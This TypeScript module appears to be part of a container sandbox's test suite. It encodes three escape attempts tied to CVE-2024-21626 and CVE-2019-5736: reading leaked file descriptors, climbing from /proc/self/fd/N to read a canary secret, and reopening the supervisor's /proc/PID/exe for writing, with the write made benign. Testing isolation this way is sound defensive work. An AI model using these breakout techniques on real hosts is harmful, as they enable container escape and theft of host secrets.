import { closeSync, openSync, readFileSync, writeSync } from 'node:fs';
import path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, reached } from './attack.js';
import type { Scene } from './scene.js';

const asRoot = { userns: 'host' as const };

export const descriptors: readonly Attack[] = [
  {
    family: 'descriptors',
    name: "a descriptor of the supervisor's is left open: its control connection, its files",
    known: ['CVE-2024-21626', 'CVE-2016-9962'],
    defence: 'closed-descriptors',
    stopped: 'harmless',
    attempt: async ({ stage }) =>
      reached(await stage.sh('for n in 3 4 5 6 7 8 9; do readlink /proc/$$/fd/$n; done', asRoot)),
  },
  {
    family: 'descriptors',
    name: 'the working directory is one that the supervisor has open: /proc/self/fd/N',
    known: ['CVE-2024-21626'],
    defence: 'inside-directory',
    stopped: 'harmless',
    attempt: climbFromDescriptors,
  },
  {
    family: 'descriptors',
    name: "the supervisor's program is overwritten by way of /proc/PID/exe",
    known: ['CVE-2019-5736'],
    defence: 'sealed-program',
    stopped: 'harmless',
    attempt: overwriteTheSupervisor,
  },
];

/** A shell script that goes from its working directory up, step by step, until the canary is in reach. */
export function climb(canary: string): string {
  return `d=.; for i in 1 2 3 4 5 6 7 8 9 10; do
    for f in $d${canary}/secret $d/${path.basename(canary)}/secret; do [ -e $f ] && cat $f && exit; done
    d=$d/..
  done`;
}

/** From each descriptor. */
async function climbFromDescriptors({ stage, canary }: Scene): Promise<string | undefined> {
  for (let fd = 3; fd < 24; ++fd) {
    const text = await stage
      .sh(climb(canary), { ...asRoot, workingDirectory: `/proc/self/fd/${fd}` })
      .catch(() => '');
    if (text !== '') return `by descriptor ${fd}: ${text}`;
  }
  return undefined;
}

async function overwriteTheSupervisor({ stage }: Scene): Promise<string | undefined> {
  const container = await stage.start(['sleep', '60']);
  return overwrite(supervisorOf(container.pid), async () => {
    container.signal(9);
    await container.gone;
  });
}

/** The process that has started that one. */
export function supervisorOf(pid: number): string {
  return /^PPid:\t(\d+)$/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1] ?? '';
}

/** As a task would that sees the supervisor: opened while it runs, written once it has ended and the kernel no longer forbids that. */
export async function overwrite(supervisor: string, end: () => Promise<void>): Promise<string | undefined> {
  const running = openSync(`/proc/${supervisor}/exe`, 'r');
  try {
    await end();
    return (await write(running)) ? 'it can be written' : undefined;
  } finally {
    closeSync(running);
  }
}

/** Writes the first bytes of a program over themselves. */
async function write(program: number): Promise<boolean> {
  for (;;) {
    try {
      const writable = openSync(`/proc/self/fd/${program}`, 'r+');
      const start = readFileSync(writable).subarray(0, 4);
      try {
        writeSync(writable, start, 0, start.length, 0);
        return true;
      } finally {
        closeSync(writable);
      }
    } catch (error) {
      const { code = '' } = error as NodeJS.ErrnoException;
      if (['EPERM', 'EACCES'].includes(code)) return false;
      // Another container's supervisor has not quite ended.
      if (code !== 'ETXTBSY') throw error;
      await sleep(20);
    }
  }
}
